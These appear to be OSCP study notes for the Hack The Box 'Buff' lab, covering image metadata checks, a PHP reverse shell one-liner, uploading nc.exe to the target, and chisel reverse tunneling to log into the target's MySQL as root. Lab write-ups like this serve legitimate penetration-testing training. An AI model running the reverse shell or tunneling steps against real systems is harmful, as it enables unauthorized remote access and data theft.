OSCP Notes
Comment on page

HTB buff notes

HTTP tips

  • when you see images, try downloading them and analyze the meta data.
    • wget image_URL`
    • exiftool image.img
    • check the modification time
  • php -r '$sock=fsockopen("",81);exec("/bin/sh -i <&3 >&3 2>&3");'
Powershell command
get-content -shows what the file does
tasklist - shows all the programs
Upload nc.exe on the victim
nc.exe -zv localhost 8888
(talks to the server)

using chisel to interact with SQL server on Windows target

  1. 1.Download both linux and windows 64 versions gz
  2. 2.
    gunzip them and rename them to whatever you want.
  3. 3.
    Transfer the windows target machine (the windows file)
  4. 4.
    On Kali, gunzip the linux file and chmd +x it. start it with (if an error happens, the port is in use)
./chisel server --reverse --port 9002
  1. 1.
    On windows,
.\chisel.exe client IP:9002 R:3306:localhost:3306
Now that the tunneling is set up, we can connect to the sql serve via local host:3306
On kali,
nc localhost 3306
You do want to have mySQL credentials before connecting.mysQL password
look into /include for passwords

Login to the SQL server!mysql -u root -p (no pass) -h
-> show databases;
use table_name; #shows columns
(you can make sure you're connected viachisel by "ss -lnpt | grep 3306")